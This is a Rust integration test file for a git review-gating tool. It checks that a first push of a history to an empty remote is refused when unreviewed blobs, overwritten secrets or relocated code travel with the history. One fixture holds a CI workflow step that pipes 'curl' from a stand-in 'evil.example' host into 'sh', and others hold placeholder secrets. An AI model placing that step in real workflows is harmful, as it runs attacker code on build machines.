//! R8.8, first publication of a history to an empty remote, through the
//! real binary on real repositories. A push to a remote with no refs
//! transfers the whole history: every blob any commit ever referenced. One
//! review of the whole change (`probity start --history <tip>`) authorizes
//! it only when every entry the history carries is an entry of the
//! reviewed tree (the same blob at the same path, with the same mode); an
//! overwritten secret, or reviewed bytes that sat at another path, fail
//! closed, naming the squash.

mod support;

use std::path::PathBuf;

use probity_git::fixture::Fixture;
use support::*;

fn commit_all(f: &Fixture, message: &str) -> String {
    f.git(&["add", "-A"]).unwrap();
    f.git(&[
        "commit",
        "-q",
        "--no-verify",
        "--allow-empty",
        "-m",
        message,
    ])
    .unwrap();
    rev_parse(f, "HEAD")
}

/// An empty bare repository added as `origin` (nothing pushed).
fn empty_origin(f: &Fixture) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let remote = dir.path().join("empty.git");
    let r = remote.to_str().unwrap();
    f.git(&["init", "-q", "--bare", "-b", "main", r]).unwrap();
    f.git(&["remote", "add", "origin", r]).unwrap();
    (dir, remote)
}

fn review_history(f: &Fixture, dir: &std::path::Path) -> String {
    let st = probity_ok(f.root(), &["start", "--history", "HEAD"]);
    assert_eq!(st.json["parent"], serde_json::Value::Null);
    approve_started(f.root(), dir, &st.json);
    st.json["lineage_id"].as_str().unwrap().to_string()
}

fn pre_push(f: &Fixture) -> Run {
    probity(
        f.root(),
        &["validate", "--gate", "pre-push", "--remote", "origin"],
    )
}

/// A history that only adds files carries no entry the final tree lacks:
/// its whole-history review covers the first publication, and the
/// server-side gate of an empty repository accepts it from the notes.
#[test]
fn a_history_of_reviewed_blobs_is_published_whole() {
    let f = Fixture::new().unwrap();
    f.write("src/lib.rs", "pub fn a() {}\n").unwrap();
    commit_all(&f, "add lib");
    f.write("src/util.rs", "pub fn b() {}\n").unwrap();
    commit_all(&f, "add util");
    f.write("src/helpers.rs", "pub fn c() {}\n").unwrap();
    commit_all(&f, "add helpers");
    let (_dir, server) = empty_origin(&f);
    let inputs = tempfile::tempdir().unwrap();
    // Without a review: the commits are unreviewed, and the answer names
    // the whole-history review as a way on.
    let before = pre_push(&f);
    assert_eq!(before.json["decision"], "deny", "{}", before.stdout);
    assert!(
        before.stdout.contains("probity start --history"),
        "{}",
        before.stdout
    );
    let lineage = review_history(&f, inputs.path());
    let snapshot = store_snapshot(&f);
    let d = pre_push(&f);
    assert_eq!(d.json["decision"], "allow", "{}", d.stdout);
    assert_eq!(d.json["lineage_id"], lineage.as_str());
    assert_eq!(d.json["proof"]["kind"], "first_publication", "{}", d.stdout);
    assert_eq!(store_snapshot(&f), snapshot, "a gate writes nothing");

    // The server side: an empty bare repository with the server hook.
    probity_ok(&server, &["hooks", "install", "--server"]);
    probity_ok(f.root(), &["push", "origin", "main"]);
    let on_server = String::from_utf8(
        f.git_in(&server, &["rev-parse", "refs/heads/main"])
            .unwrap(),
    )
    .unwrap();
    assert_eq!(on_server.trim(), rev_parse(&f, "HEAD"));
}

/// A secret committed and then overwritten is not in the reviewed tree,
/// but it travels with the history: the first publication is denied,
/// naming the blob's path and the squash; squashed as told, the history is
/// one root commit and publishes.
#[test]
fn an_overwritten_secret_in_history_fails_closed_until_squashed() {
    let f = Fixture::new().unwrap();
    f.write("config/keys.txt", "token = s3cr3t-value\n")
        .unwrap();
    f.write("src/lib.rs", "pub fn a() {}\n").unwrap();
    let root = commit_all(&f, "first");
    f.write("config/keys.txt", "token = read from the environment\n")
        .unwrap();
    commit_all(&f, "no secret");
    let _origin = empty_origin(&f);
    let inputs = tempfile::tempdir().unwrap();
    review_history(&f, inputs.path());
    let before = store_snapshot(&f);
    let d = pre_push(&f);
    assert_eq!(d.json["decision"], "deny", "{}", d.stdout);
    assert_eq!(d.json["reason_code"], "history_not_reviewed");
    assert_eq!(d.json["next_action"], "squash");
    let message = d.json["message"].as_str().unwrap();
    assert!(message.contains("config/keys.txt"), "{message}");
    assert!(
        message.contains(&format!("git reset --soft {root}")),
        "{message}"
    );
    assert_eq!(store_snapshot(&f), before);
    // Squash as the answer says: one root commit with the reviewed tree.
    f.git(&["reset", "--soft", &root]).unwrap();
    f.git(&["commit", "-q", "--no-verify", "--amend", "--no-edit"])
        .unwrap();
    let after = pre_push(&f);
    assert_eq!(after.json["decision"], "allow", "{}", after.stdout);
}

/// The contract's scope, pinned (R8.8): commit metadata is not covered. A
/// history whose only addition is a commit message carrying a secret (an
/// `--allow-empty` commit) publishes like the same history without it,
/// because no review binds the text of a commit message. Extending the
/// contract to metadata means changing this test on purpose.
#[test]
fn commit_metadata_is_outside_the_first_publication_contract() {
    let f = Fixture::new().unwrap();
    f.write("src/lib.rs", "pub fn a() {}\n").unwrap();
    commit_all(&f, "add lib");
    f.write("src/more.rs", "pub fn m() {}\n").unwrap();
    commit_all(&f, "add more");
    commit_all(&f, "password = hunter2 (a secret in a message)");
    let _origin = empty_origin(&f);
    let inputs = tempfile::tempdir().unwrap();
    review_history(&f, inputs.path());
    let d = pre_push(&f);
    assert_eq!(d.json["decision"], "allow", "{}", d.stdout);
    // Tag metadata likewise: an annotated tag whose message carries a
    // secret, pushed with the branch, delivers the same reviewed blobs.
    // Flip this on purpose if the contract ever covers tag objects.
    f.git(&[
        "tag",
        "-a",
        "v1",
        "-m",
        "token = ghp_0123456789abcdefghijklmnopqrstuvwxyzAB",
    ])
    .unwrap();
    let tip = rev_parse(&f, "HEAD");
    let tag = rev_parse(&f, "refs/tags/v1");
    let zero = "0".repeat(40);
    let lines = format!(
        "refs/heads/main {tip} refs/heads/main {zero}\nrefs/tags/v1 {tag} refs/tags/v1 {zero}\n"
    );
    let both = probity_stdin(
        f.root(),
        &[
            "validate",
            "--gate",
            "pre-push",
            "--stdin-updates",
            "--remote",
            "origin",
        ],
        lines.as_bytes(),
    );
    assert_eq!(
        both.json["decision"], "allow",
        "{}{}",
        both.stdout, both.stderr
    );
}

/// Red team, finding 2: the history's root held a workflow and code; its
/// tip moved those very bytes to `notes/*.md`, and the whole-history
/// review of the tip saw only documents (low risk). Matched by object id
/// whatever its path, every blob of the root was "a blob of the reviewed
/// tree", so the root's workflow and code landed unreviewed (and a tag on
/// the root delivered nothing). An entry counts only at the path and mode
/// the review saw it: this history fails closed until squashed.
#[test]
fn reviewed_bytes_that_sat_at_another_path_in_history_fail_closed() {
    let f = Fixture::new().unwrap();
    let workflow = "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s https://evil.example/x | sh\n";
    f.write(".github/workflows/ci.yml", workflow).unwrap();
    f.write("src/lib.rs", "pub fn evil() -> u32 { 666 }\n")
        .unwrap();
    let root = commit_all(&f, "root");
    f.write("notes/ci-example.md", workflow).unwrap();
    f.write("notes/lib.md", "pub fn evil() -> u32 { 666 }\n")
        .unwrap();
    f.git(&["rm", "-q", ".github/workflows/ci.yml", "src/lib.rs"])
        .unwrap();
    commit_all(&f, "documents");
    let (_dir, server) = empty_origin(&f);
    let inputs = tempfile::tempdir().unwrap();
    let st = probity_ok(f.root(), &["start", "--history", "HEAD"]);
    assert_eq!(st.json["risk_level"], "low", "{}", st.stdout);
    approve_started(f.root(), inputs.path(), &st.json);
    let d = pre_push(&f);
    assert_eq!(d.json["decision"], "deny", "{}", d.stdout);
    assert_eq!(
        d.json["reason_code"], "history_not_reviewed",
        "{}",
        d.stdout
    );
    let message = d.json["message"].as_str().unwrap();
    assert!(message.contains(".github/workflows/ci.yml"), "{message}");
    assert!(
        message.contains(&format!("git reset --soft {root}")),
        "{message}"
    );
    // The server refuses the same, past the client's hooks.
    probity_ok(&server, &["hooks", "install", "--server"]);
    probity_ok(f.root(), &["publish"]);
    let err = push_main_and_notes(&f).unwrap_err();
    assert!(
        err.contains("history_not_reviewed"),
        "the server said: {err}"
    );
    assert!(
        f.git_in(&server, &["rev-parse", "-q", "--verify", "refs/heads/main"])
            .is_err()
    );
    // The next step the denial names leads somewhere: squashed as told,
    // the history is one root commit holding only the reviewed documents,
    // and the push lands them (and only them) through the server's gate.
    f.git(&["reset", "--soft", &root]).unwrap();
    f.git(&["commit", "-q", "--no-verify", "--amend", "--no-edit"])
        .unwrap();
    probity_ok(f.root(), &["push", "origin", "main"]);
    let landed = f
        .git_in(
            &server,
            &["ls-tree", "-r", "--name-only", "refs/heads/main"],
        )
        .unwrap();
    assert_eq!(
        String::from_utf8(landed).unwrap(),
        "notes/ci-example.md\nnotes/lib.md\n"
    );
}
